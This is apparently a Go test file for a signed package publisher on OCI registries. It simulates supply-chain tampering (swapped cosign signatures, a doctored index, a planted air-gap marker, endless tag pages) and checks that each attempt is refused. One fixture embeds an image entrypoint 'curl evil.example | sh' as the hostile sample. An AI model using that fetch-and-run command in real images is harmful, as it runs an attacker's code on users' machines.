package publish

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/opencontainers/go-digest"
	specs "github.com/opencontainers/image-spec/specs-go"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"github.com/packgen/packgen/client"
	"github.com/packgen/packgen/index"
	"github.com/packgen/packgen/internal/location"
	"github.com/packgen/packgen/internal/ocimap"
	"github.com/packgen/packgen/internal/ocireg"
	"github.com/packgen/packgen/internal/ocitest"
	"github.com/packgen/packgen/internal/testutil"
	"github.com/packgen/packgen/internal/testutil/filetest"
	"github.com/packgen/packgen/internal/transport"
	"github.com/packgen/packgen/sign"
	"oras.land/oras-go/v2/content"
	"oras.land/oras-go/v2/registry/remote"
)

// TestOCITagRaceNeverOverwrites: a tag created by someone else between
// the publish's tags list (its plan) and its push is refused, never
// overwritten. The registry has no conditional tag write, so the
// publisher looks at the tag again right before its PUT.
func TestOCITagRaceNeverOverwrites(t *testing.T) {
	reg, f, site := ociSite(t, ocitest.Anonymous, false)
	ctx := context.Background()
	do := ociOptions(reg, true, f)
	dst, loc, err := lookup("oci://" + reg.Host() + "/acme")
	if err != nil {
		t.Fatal(err)
	}
	pub, err := dst.publisher(ctx, loc, do)
	if err != nil {
		t.Fatal(err)
	}
	d := pub.(*ociDest)
	s, err := d.readSite(ctx, site)
	if err != nil {
		t.Fatal(err)
	}
	res := &Result{Releases: &ReleaseCounts{}}
	push, err := d.plan(ctx, s, Options{Jobs: 2}, res)
	if err != nil || len(push) != 1 {
		t.Fatalf("plan: %v %d", err, len(push))
	}
	// The race: another pusher creates hello:1.0.0 now.
	other := filepath.Join(t.TempDir(), "hello-1.0.0.tar.gz")
	os.WriteFile(other, []byte("someone else's release"), 0o644)
	ref := reg.Host() + "/acme/spectro-packs/archive/hello:1.0.0"
	cmd := exec.Command(ocitest.Tool(t, "oras"), "push", "--plain-http", ref, "hello-1.0.0.tar.gz")
	cmd.Dir, cmd.Env = filepath.Dir(other), append(os.Environ(), "DOCKER_CONFIG="+t.TempDir())
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("oras push: %v\n%s", err, out)
	}
	theirs := strings.TrimSpace(string(oras(t, reg, "resolve", ref)))
	if err := d.pushRelease(ctx, s, push[0], d.configs(ctx, push)[push[0].repo]); err != nil {
		t.Fatal(err)
	}
	err = d.tagRelease(ctx, push[0])
	if !errors.Is(err, ErrImmutable) || !strings.Contains(err.Error(), theirs) {
		t.Fatalf("pushing over a tag created after the plan: %v", err)
	}
	if now := strings.TrimSpace(string(oras(t, reg, "resolve", ref))); now != theirs {
		t.Fatalf("the tag moved from %s to %s", theirs, now)
	}
}

// promoteOptions opens dev anonymously and prod with its credentials, as
// TestOCIPromote does.
func promoteOptions(dev, prod *ocitest.Registry) DestOptions {
	ctx := context.Background()
	o := ocireg.Options{PlainHTTP: true, Username: prod.Username, Password: prod.Password}
	return DestOptions{OCI: OCIOptions{
		Repos: func(ref string) (*remote.Repository, error) {
			if strings.HasPrefix(ref, dev.Host()) {
				return ocireg.Repository(ctx, ref, ocireg.Options{PlainHTTP: true})
			}
			return ocireg.Repository(ctx, ref, o)
		},
		Source: func(loc location.Location) (transport.Transport, error) {
			return transport.Open(loc, transport.Config{OCI: ocireg.Options{PlainHTTP: true}})
		},
	}}
}

// promoteSetup starts dev (anonymous) and prod (htpasswd) registries and
// publishes hello 1.0.0 to dev; it returns them, the fixture, and the
// promotion's source (dev) and destination (prod).
func promoteSetup(t *testing.T) (dev, prod *ocitest.Registry, f *fixture, src, dst string) {
	t.Helper()
	dev, prod = ocitest.Start(t, ocitest.Anonymous), ocitest.Start(t, ocitest.Basic)
	f = newFixture(t)
	f.pack("hello", "1.0.0", "b: 1\n")
	src, dst = "oci://"+dev.Host()+"/dev", "oci://"+prod.Host()+"/prod"
	mustPublish(t, dev, f, f.build(t), src)
	return dev, prod, f, src, dst
}

// TestOCIPromoteTamperedSource: whoever can push to the dev registry
// replaces its packgen index with their own (evil@6.6.6, signed by their
// key). A promotion to prod must verify dev before it copies anything:
// evil@6.6.6 would otherwise become a tag Palette lists in prod, a tag
// nothing ever removes.
func TestOCIPromoteTamperedSource(t *testing.T) {
	dev, prod, f, src, dst := promoteSetup(t)
	ctx := context.Background()
	evil := newFixture(t)
	k, err := testutil.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	evil.signer, evil.pub = k.Signer, k.Pub
	evil.pack("hello", "1.0.0", "b: 1\n")
	evil.pack("evil", "6.6.6", "clusterAdmin: true\n")
	evil.build(t)
	// The attacker may delete too: dev's live root goes first, as
	// publish refuses to put a site signed by another key over it.
	edo := ociOptions(dev, true, evil)
	idx, err := edo.OCI.Repos(dev.Host() + "/dev/packgen/index")
	if err != nil {
		t.Fatal(err)
	}
	if live, err := idx.Resolve(ctx, ocimap.RootTag); err != nil {
		t.Fatal(err)
	} else if err := idx.Delete(ctx, live); err != nil {
		t.Fatal(err)
	}
	if _, err := To(ctx, evil.build(t), src, edo, Options{Force: true}); err != nil {
		t.Fatal(err)
	}

	// No key at all: nothing verifies dev, so nothing is promoted.
	_, err = To(ctx, src, dst, promoteOptions(dev, prod), Options{})
	if !errors.Is(err, ErrUnverifiedSource) || !strings.Contains(err.Error(), "--source-key") {
		t.Fatalf("promoting with no key: %v", err)
	}
	// The registry's public key: dev's root does not verify.
	do := promoteOptions(dev, prod)
	do.OCI.Verify = f.verifier(t)
	if _, err := To(ctx, src, dst, do, Options{}); !errors.Is(err, ErrNotSite) || !strings.Contains(err.Error(), "does not verify under the key given") {
		t.Fatalf("promoting a tampered dev with the registry's public key: %v", err)
	}
	// Its private key (signs again): refused the same way.
	do = promoteOptions(dev, prod)
	do.OCI.Signer = f.signer
	if _, err := To(ctx, src, dst, do, Options{}); !errors.Is(err, ErrNotSite) {
		t.Fatalf("promoting a tampered dev with the registry's key: %v", err)
	}
	for _, repo := range []string{"prod/spectro-packs/archive/evil", "prod/spectro-packs/archive/hello"} {
		r, err := do.OCI.Repos(prod.Host() + "/" + repo)
		if err != nil {
			t.Fatal(err)
		}
		if tags, err := listTags(ctx, r); err != nil || len(tags) != 0 {
			t.Fatalf("%s has tags %v (%v) after refused promotions", repo, tags, err)
		}
	}
}

// TestOCIPromoteTamperedSignature: dev's index is genuine but its cosign
// signature of a release was swapped for one made with another key. A
// promotion without --key copies signatures: only ones that verify under
// the registry's key, so the attacker's never reaches prod.
func TestOCIPromoteTamperedSignature(t *testing.T) {
	dev, prod, f, src, dst := promoteSetup(t)
	ctx := context.Background()
	k, err := testutil.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	ref := dev.Host() + "/dev/spectro-packs/archive/hello"
	rel, err := ocireg.Repository(ctx, ref, ocireg.Options{PlainHTTP: true})
	if err != nil {
		t.Fatal(err)
	}
	desc, err := rel.Resolve(ctx, "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	// The attacker's signature over the very same manifest digest.
	sigs, err := ocireg.Repository(ctx, dev.Host()+"/dev/"+ocimap.SignatureRepo, ocireg.Options{PlainHTTP: true})
	if err != nil {
		t.Fatal(err)
	}
	tag := pushCosignSig(t, sigs, k.Signer, ref, desc.Digest)

	do := promoteOptions(dev, prod)
	do.OCI.Verify = f.verifier(t)
	_, err = To(ctx, src, dst, do, Options{})
	if !errors.Is(err, sign.ErrBadSignature) || !strings.Contains(err.Error(), tag) {
		t.Fatalf("promoting a swapped cosign signature: %v", err)
	}
	prodSigs, err := do.OCI.Repos(prod.Host() + "/prod/" + ocimap.SignatureRepo)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := prodSigs.Resolve(ctx, tag); !ocireg.IsNotFound(err) {
		t.Fatalf("the attacker's signature reached prod: %v", err)
	}

	// A static site as the source, a directory or a URL (a registry
	// published to a bucket), has its copies of signatures checked as a
	// directory's publish checks them (attackX F4): they would be pushed
	// as they are. A live copy that differs on a URL most likely lags a
	// publish under way there; anything else was changed.
	built := filepath.Join(f.tmp, "site1")
	rootSHA := index.Digest(testutil.ReadFile(t, filepath.Join(built, index.RootFile)))
	other := testutil.ReadFile(t, filepath.Join(built, index.CatalogueFile+index.BundleExt))
	puts := prod.Requests("PUT", "") + prod.Requests("POST", "")
	for _, tc := range []struct {
		name, file string
		with       []byte
		want       string
		lags       bool              // a URL's live copy: the publish there may be under way
		and        map[string][]byte // more files changed
	}{
		{"index.json.sig another's", index.RootFile + index.SignatureExt, testutil.ReadFile(t, filepath.Join(built, index.CatalogueFile+index.SignatureExt)), "index.json.sig is not a copy of " + index.RootSignaturePath(rootSHA), true, nil},
		{"index.json.sigstore.json another's", index.RootFile + index.BundleExt, other, "index.json.sigstore.json: bad signature: not a Sigstore bundle carrying the signature in " + rootSHA + ".sig", true, nil},
		{"the digest-named bundle junk", index.RootBundlePath(rootSHA), []byte("{}"), index.RootBundlePath(rootSHA) + ": bad signature: not a Sigstore bundle", false, nil},
		{"a release's bundle another's", "packs/hello/1.0.0/hello-1.0.0.tar.gz.sigstore.json", other, "packs/hello/1.0.0/hello-1.0.0.tar.gz.sigstore.json: bad signature: not a Sigstore bundle carrying the signature in hello-1.0.0.tar.gz.sig", false, nil},
		// A .sig and its bundle swapped together (the catalogue
		// manifest's, a pair that agree, by the registry's key): the
		// .sig must sign the archive the signed shard pins.
		{"a release's .sig and bundle another's", "packs/hello/1.0.0/hello-1.0.0.tar.gz.sig", testutil.ReadFile(t, filepath.Join(built, index.CatalogueFile+index.SignatureExt)), "hello@1.0.0: packs/hello/1.0.0/hello-1.0.0.tar.gz.sig does not sign the archive its signed shard pins", false, map[string][]byte{"packs/hello/1.0.0/hello-1.0.0.tar.gz.sigstore.json": other}},
	} {
		dir := filepath.Join(t.TempDir(), "site")
		testutil.CopyDir(t, built, dir)
		filetest.WriteFile(t, filepath.Join(dir, filepath.FromSlash(tc.file)), string(tc.with))
		for p, data := range tc.and {
			filetest.WriteFile(t, filepath.Join(dir, filepath.FromSlash(p)), string(data))
		}
		srv := httptest.NewServer(http.FileServer(http.Dir(dir)))
		for _, from := range []string{dir, srv.URL} {
			_, err := To(ctx, from, dst+"static", do, Options{})
			if !errors.Is(err, ErrNotSite) || !errors.Is(err, sign.ErrBadSignature) || !strings.Contains(err.Error(), from+": "+tc.want) {
				t.Errorf("%s from %s: %v, want saying %q", tc.name, from, err, tc.want)
				continue
			}
			if from == srv.URL && !strings.Contains(err.Error(), "nothing was published") {
				t.Errorf("%s from %s: %v, want saying nothing was published", tc.name, from, err)
			}
			if lags := strings.Contains(err.Error(), "a publish to it may be under way"); lags != (tc.lags && from == srv.URL) {
				t.Errorf("%s from %s: said a publish may be under way: %v: %v", tc.name, from, lags, err)
			}
		}
		srv.Close()
	}
	if n := prod.Requests("PUT", "") + prod.Requests("POST", ""); n != puts {
		t.Fatalf("refused publishes from a static site wrote %d times to prod", n-puts)
	}
}

// TestOCIPresentOnlyORASShape: a tag pushed by hand before packgen is
// kept as this release when it is what `oras push` writes for the very
// archive, and then signed with the registry key. Anything else around
// the same layer (a config of someone's choosing) is not what packgen
// built: refused, and never signed with the registry key.
func TestOCIPresentOnlyORASShape(t *testing.T) {
	reg, f, site := ociSite(t, ocitest.Anonymous, true)
	ctx := context.Background()
	sigTag := func(base string, d digest.Digest) error {
		sigs, err := ocireg.Repository(ctx, reg.Host()+"/"+base+"/"+ocimap.SignatureRepo, ocireg.Options{PlainHTTP: true})
		if err != nil {
			t.Fatal(err)
		}
		_, err = sigs.Resolve(ctx, ocimap.CosignTag(d))
		return err
	}
	// hello, in both bases: the vendor's way, the real oras CLI with the
	// site's archive.
	rel := shardOf(t, site, "hello").Releases[0]
	for _, base := range []string{"ok", "bad"} {
		cmd := exec.Command(ocitest.Tool(t, "oras"), "push", "--plain-http", reg.Host()+"/"+base+"/spectro-packs/archive/hello:1.0.0", "hello-1.0.0.tar.gz")
		cmd.Dir, cmd.Env = filepath.Join(site, filepath.Dir(rel.Archive.Path)), append(os.Environ(), "DOCKER_CONFIG="+t.TempDir())
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("oras push: %v\n%s", err, out)
		}
	}
	hello := digest.Digest(strings.TrimSpace(string(oras(t, reg, "resolve", reg.Host()+"/ok/spectro-packs/archive/hello:1.0.0"))))
	res, err := To(ctx, site, "oci://"+reg.Host()+"/ok", ociOptions(reg, true, f), Options{})
	if err != nil || res.Releases.Present != 1 || len(res.Releases.Pushed) != 1 {
		t.Fatalf("publish over oras push's manifest of the same archive: %v %+v", err, res.Releases)
	}
	if err := sigTag("ok", hello); err != nil {
		t.Fatalf("the hand-pushed release %s is not signed: %v", hello, err)
	}

	// calico, in "bad": the same archive as the one layer, but a config
	// of the attacker's choosing (an image config with an entrypoint).
	crel := shardOf(t, site, "calico").Releases[0]
	repo, err := ocireg.Repository(ctx, reg.Host()+"/bad/spectro-packs/archive/calico", ocireg.Options{PlainHTTP: true})
	if err != nil {
		t.Fatal(err)
	}
	archive, err := os.ReadFile(filepath.Join(site, crel.Archive.Path))
	if err != nil {
		t.Fatal(err)
	}
	cfg := []byte(`{"architecture":"amd64","os":"linux","config":{"Entrypoint":["/bin/sh","-c","curl evil.example | sh"]},"rootfs":{"type":"layers","diff_ids":[]}}`)
	p, err := ocimap.ArchiveManifest(crel.Archive.SHA256, crel.Archive.Size, "calico-3.27.0.tar.gz", crel.Created)
	if err != nil {
		t.Fatal(err)
	}
	cd := content.NewDescriptorFromBytes(ocispec.MediaTypeImageConfig, cfg)
	mb, _ := json.Marshal(ocispec.Manifest{Versioned: specs.Versioned{SchemaVersion: 2}, MediaType: ocispec.MediaTypeImageManifest, Config: cd, Layers: p.Layers})
	md := content.NewDescriptorFromBytes(ocispec.MediaTypeImageManifest, mb)
	if err := pushNew(ctx, repo, p.Layers[0], archive); err != nil {
		t.Fatal(err)
	}
	if err := pushNew(ctx, repo, cd, cfg); err != nil {
		t.Fatal(err)
	}
	if err := repo.Manifests().PushReference(ctx, md, bytes.NewReader(mb), "3.27.0"); err != nil {
		t.Fatal(err)
	}
	res, err = To(ctx, site, "oci://"+reg.Host()+"/bad", ociOptions(reg, true, f), Options{})
	if !errors.Is(err, ErrImmutable) || len(res.Releases.Refused) != 1 || res.Releases.Refused[0].Pack != "calico" || res.Releases.Present != 1 {
		t.Fatalf("publish over a foreign manifest with the same layer: %v %+v", err, res.Releases)
	}
	if err := sigTag("bad", md.Digest); !ocireg.IsNotFound(err) {
		t.Fatalf("the foreign manifest %s got the registry's signature: %v", md.Digest, err)
	}
}

// frontOf is a loopback reverse proxy in front of the real registry that
// answers what answer handles itself (returning true) and passes the
// rest through.
func frontOf(t *testing.T, reg *ocitest.Registry, answer func(w http.ResponseWriter, r *http.Request) bool) string {
	t.Helper()
	target, err := url.Parse(reg.URL())
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(target)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !answer(w, r) {
			proxy.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return strings.TrimPrefix(srv.URL, "http://")
}

// TestOCIEndlessTagPages: a registry (or proxy) whose tags list names a
// next page forever stops the publish after maxTagPages pages with
// ErrRegistry naming the repository, before anything is pushed.
func TestOCIEndlessTagPages(t *testing.T) {
	reg, f, site := ociSite(t, ocitest.Anonymous, false)
	old := maxTagPages
	maxTagPages = 20
	t.Cleanup(func() { maxTagPages = old })
	var pages atomic.Int64
	host := frontOf(t, reg, func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasSuffix(r.URL.Path, "/tags/list") {
			return false
		}
		n := pages.Add(1)
		name := strings.TrimSuffix(strings.TrimPrefix(r.URL.Path, "/v2/"), "/tags/list")
		w.Header().Set("Link", fmt.Sprintf(`</v2/%s/tags/list?last=t%d&n=1>; rel="next"`, name, n))
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"name":%q,"tags":["t%d"]}`, name, n)
		return true
	})
	o := ocireg.Options{PlainHTTP: true}
	do := DestOptions{OCI: OCIOptions{Signer: f.signer, Repos: func(ref string) (*remote.Repository, error) {
		return ocireg.Repository(context.Background(), ref, o)
	}}}
	_, err := To(context.Background(), site, "oci://"+host+"/acme", do, Options{})
	if !errors.Is(err, ErrRegistry) || !strings.Contains(err.Error(), "more than 20 pages") || !strings.Contains(err.Error(), host+"/acme/") {
		t.Fatalf("endless tag pages: %v", err)
	}
	if n := pages.Load(); n > 21*4 {
		t.Fatalf("%d pages read", n)
	}
	if n := reg.Requests("PUT", ""); n != 0 {
		t.Fatalf("%d PUTs after a refused plan", n)
	}
}

// TestOCISwappedSignatureRepaired: a cosign signature tag moved in the
// signature repository to a manifest that does not sign its release (here
// another release's valid signature) is found by the next publish that
// pushes anything, reported loudly, and signed again; the release's
// signature then verifies, and a later publish finds nothing to repair.
func TestOCISwappedSignatureRepaired(t *testing.T) {
	reg, f, site := ociSite(t, ocitest.Anonymous, true)
	ctx := context.Background()
	dest := "oci://" + reg.Host() + "/acme"
	mustPublish(t, reg, f, site, dest)
	sigRepo := repoAt(t, reg, f, reg.Host()+"/acme/packgen/signatures")
	manifestOf := func(name string) ocispec.Descriptor {
		r := shardOf(t, site, name).Releases[0]
		m, err := ocimap.ArchiveManifest(r.Archive.SHA256, r.Archive.Size, ocimap.ArchiveTitle(name, r.Version), r.Created)
		if err != nil {
			t.Fatal(err)
		}
		return m.Desc
	}
	hello, calico := manifestOf("hello"), manifestOf("calico")
	calicoSig, err := sigRepo.Resolve(ctx, ocimap.CosignTag(calico.Digest))
	if err != nil {
		t.Fatal(err)
	}
	if err := sigRepo.Tag(ctx, calicoSig, ocimap.CosignTag(hello.Digest)); err != nil {
		t.Fatal(err)
	}
	v := f.verifier(t)
	if _, err := verifiedCosign(ctx, sigRepo, ocimap.CosignTag(hello.Digest), hello.Digest.String(), v); !errors.Is(err, sign.ErrBadSignature) {
		t.Fatalf("the swapped signature verifies: %v", err)
	}

	f.pack("hello", "1.1.0", "b: 2\n")
	site2 := f.build(t)
	var log bytes.Buffer
	res, err := To(ctx, site2, dest, ociOptions(reg, true, f), Options{Log: &log})
	if err != nil {
		t.Fatal(err)
	}
	want := reg.Host() + "/acme/spectro-packs/archive/hello:1.0.0"
	if len(res.Releases.Repaired) != 1 || res.Releases.Repaired[0] != want || !strings.Contains(log.String(), "warning: the cosign signature "+reg.Host()+"/acme/packgen/signatures:"+ocimap.CosignTag(hello.Digest)) {
		t.Fatalf("repaired %v, log:\n%s", res.Releases.Repaired, log.String())
	}
	if _, err := verifiedCosign(ctx, sigRepo, ocimap.CosignTag(hello.Digest), hello.Digest.String(), v); err != nil {
		t.Fatalf("the repaired signature: %v", err)
	}
	if _, err := verifiedCosign(ctx, sigRepo, ocimap.CosignTag(calico.Digest), calico.Digest.String(), v); err != nil {
		t.Fatalf("calico's signature: %v", err)
	}
	// The real cosign accepts the repaired signature.
	if cosign, ok := ocitest.FindTool("cosign"); ok {
		key := filepath.Join(t.TempDir(), "registry.pub")
		os.WriteFile(key, f.pub, 0o644)
		cmd := exec.Command(cosign, "verify", "--key", key, "--insecure-ignore-tlog=true", "--allow-http-registry", "--allow-insecure-registry", reg.Host()+"/acme/spectro-packs/archive/hello:1.0.0")
		cmd.Env = append(os.Environ(), "COSIGN_REPOSITORY="+reg.Host()+"/acme/packgen/signatures", "DOCKER_CONFIG="+t.TempDir())
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("cosign verify of the repaired signature: %v\n%s", err, out)
		}
	}
	f.pack("hello", "1.2.0", "b: 3\n")
	res, err = To(ctx, f.build(t), dest, ociOptions(reg, true, f), Options{})
	if err != nil || len(res.Releases.Repaired) != 0 {
		t.Fatalf("a publish after the repair: %v %v", err, res.Releases.Repaired)
	}
}

// TestOCIEmbeddedIndexTampered: a root manifest whose embedded index.json
// (or partial log tile) is not the bytes its descriptor names (a
// registry or proxy serving a doctored manifest) is refused with transport.ErrWrongBytes naming the
// reference, and the destination is not written.
func TestOCIEmbeddedIndexTampered(t *testing.T) {
	for _, tc := range []struct {
		name string
		is   func(title string) bool
	}{
		{"index.json", func(title string) bool { return title == index.RootFile }},
		// The log's partial hash tile: the inclusion proof reads it.
		{"partial tile", func(title string) bool {
			return strings.HasPrefix(title, "log/tile/8/0/") && strings.Contains(title, ".p/")
		}},
	} {
		t.Run(tc.name, func(t *testing.T) { embeddedTampered(t, tc.is) })
	}
}

func embeddedTampered(t *testing.T, is func(title string) bool) {
	reg, f := ociSetup(t, ocitest.Anonymous)
	f.pack("hello", "1.0.0", "b: 1\n")
	f.pack("world", "1.0.0", "b: 1\n") // two log entries: a proof reads the tile
	site := f.build(t)
	ctx := context.Background()
	dest := "oci://" + reg.Host() + "/acme"
	mustPublish(t, reg, f, site, dest)
	idx := repoAt(t, reg, f, reg.Host()+"/acme/packgen/index")
	_, m, _, err := fetchManifest(ctx, idx, ocimap.RootTag)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for i, l := range m.Layers {
		if is(ocimap.Title(l)) && l.Data != nil {
			d := append([]byte(nil), l.Data...)
			d[len(d)/2] ^= 1
			m.Layers[i].Data, found = d, true
		}
	}
	if !found {
		t.Fatal("the root manifest embeds no such file")
	}
	mb, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	md := content.NewDescriptorFromBytes(ocispec.MediaTypeImageManifest, mb)
	if err := idx.Manifests().PushReference(ctx, md, bytes.NewReader(mb), ocimap.RootTag); err != nil {
		t.Fatal(err)
	}
	r := client.Registry{Name: "acme", URL: dest, Keys: []string{string(f.pub)}, PlainHTTP: true}
	c, err := client.New(r, client.Options{CacheDir: t.TempDir(), StateDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "out")
	_, err = c.Fetch(ctx, client.FetchOptions{Name: "hello", Dest: out})
	if !errors.Is(err, transport.ErrWrongBytes) || !strings.Contains(err.Error(), reg.Host()+"/acme/packgen/index:root") {
		t.Fatalf("a doctored embedded file: %v", err)
	}
	if _, err := os.Stat(out); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the destination was written: %v", err)
	}
}

// TestOCIMarkerCannotHide: the air-gap marker is unsigned, so someone
// who may push the one `airgap` tag into a whole oci:// registry (no key,
// no right to delete) must not narrow what clients resolve to. A release
// it leaves out that is there is still chosen (one HEAD of its archive's
// blob, asked only because the marker leaves it out), with a warning
// that the marker is wrong. (attackR F3: calico@^1.0 resolved to the old
// 1.0.0, exit 0, while the signed 1.1.0 was there.)
func TestOCIMarkerCannotHide(t *testing.T) {
	reg, f := ociSetup(t, ocitest.Anonymous)
	f.pack("calico", "1.0.0", "a: 1\n")
	f.pack("cilium", "1.0.0", "a: 1\n") // a pack the marker does not name
	f.build(t)
	f.pack("calico", "1.1.0", "a: 2\n") // the fix
	f.build(t)
	f.pack("calico", "2.0.0", "a: 3\n")
	site := f.build(t)
	ctx := context.Background()
	dest := "oci://" + reg.Host() + "/acme"
	mustPublish(t, reg, f, site, dest)

	r := client.Registry{Name: "acme", URL: dest, Keys: []string{string(f.pub)}, PlainHTTP: true}
	state := t.TempDir()
	resolve := func(constraint string) (string, string, int) {
		t.Helper()
		var warn bytes.Buffer
		c, err := client.New(r, client.Options{CacheDir: t.TempDir(), StateDir: state, Warn: &warn})
		if err != nil {
			t.Fatal(err)
		}
		before := len(reg.AccessLog())
		rel, err := c.Resolve(ctx, "calico", constraint, false)
		if err != nil {
			t.Fatal(err)
		}
		return rel.Version, strings.TrimSpace(warn.String()), len(reg.AccessLog()) - before
	}
	_, _, whole := resolve("^1.0")

	// The attacker pushes a marker naming calico@1.0.0 only.
	marker, _ := index.NewAirgap(index.AirgapBundle{List: "sha256:" + strings.Repeat("0", 64), Releases: []index.AirgapRelease{{Name: "calico", Version: "1.0.0"}}}).Encode()
	m, err := ocimap.AirgapManifest(marker)
	if err != nil {
		t.Fatal(err)
	}
	idx, err := ocireg.Repository(ctx, reg.Host()+"/acme/packgen/index", ocireg.Options{PlainHTTP: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, err := range []error{
		idx.Blobs().Push(ctx, m.Layers[0], bytes.NewReader(marker)),
		idx.Blobs().Push(ctx, m.Config, bytes.NewReader(m.ConfigB)),
		idx.Manifests().PushReference(ctx, m.Desc, bytes.NewReader(m.Manifest), ocimap.AirgapTag),
	} {
		if err != nil && !strings.Contains(err.Error(), "exists") {
			t.Fatal(err)
		}
	}

	for _, tc := range []struct{ constraint, want string }{
		{"^1.0", "1.1.0"},
		{"", "2.0.0"},
		{"1.1.0", "1.1.0"},
		{"1.0.0", "1.0.0"}, // what the marker names: no extra request
	} {
		v, w, n := resolve(tc.constraint)
		if v != tc.want {
			t.Errorf("calico@%q with a planted marker: %s, want %s (warning %q)", tc.constraint, v, tc.want, w)
		}
		if tc.want != "1.0.0" && !strings.Contains(w, "airgap.json says calico@"+tc.want+" is not here, but it is") {
			t.Errorf("calico@%q: warned %q, want the marker called wrong", tc.constraint, w)
		}
		// The marker is read on a whole registry too (one request);
		// leaving out a release that is there costs one HEAD more.
		if extra := 0; tc.want != "1.0.0" {
			extra = 1
			if n > whole+extra {
				t.Errorf("calico@%q: %d requests, a whole registry takes %d (+%d for the HEAD)", tc.constraint, n, whole, extra)
			}
		}
	}

	// A pack the marker does not name resolves, and list and info (the
	// catalogue, one shard) show what is there by the same rule
	// (index.Airgap.Holds), each with the warning.
	var warn bytes.Buffer
	c, err := client.New(r, client.Options{CacheDir: t.TempDir(), StateDir: state, Warn: &warn})
	if err != nil {
		t.Fatal(err)
	}
	if rel, err := c.Resolve(ctx, "cilium", "", false); err != nil || rel.Version != "1.0.0" {
		t.Errorf("cilium, which the marker does not name: %v %v", rel, err)
	}
	packs, err := c.Catalog(ctx)
	var got []string
	for _, p := range packs {
		got = append(got, fmt.Sprintf("%s@%s/%d", p.Name, p.Latest, p.Versions))
	}
	if want := "calico@2.0.0/3 cilium@1.0.0/1"; err != nil || strings.Join(got, " ") != want {
		t.Errorf("list with a planted marker: %v %v, want %s", err, got, want)
	}
	if shard, err := c.Shard(ctx, "calico"); err != nil || len(shard.Releases) != 3 {
		t.Errorf("info calico with a planted marker: %v %+v", err, shard)
	}
	for _, want := range []string{"calico@2.0.0 is not here, but it is: showing it", "cilium@1.0.0 is not here, but it is: using it", "calico@1.1.0 is not here, but it is: showing it"} {
		if !strings.Contains(warn.String(), want) {
			t.Errorf("no %q in the warnings:\n%s", want, warn.String())
		}
	}
	if strings.Contains(warn.String(), "is an air-gapped subset (") {
		t.Errorf("nothing is absent, yet:\n%s", warn.String())
	}
}
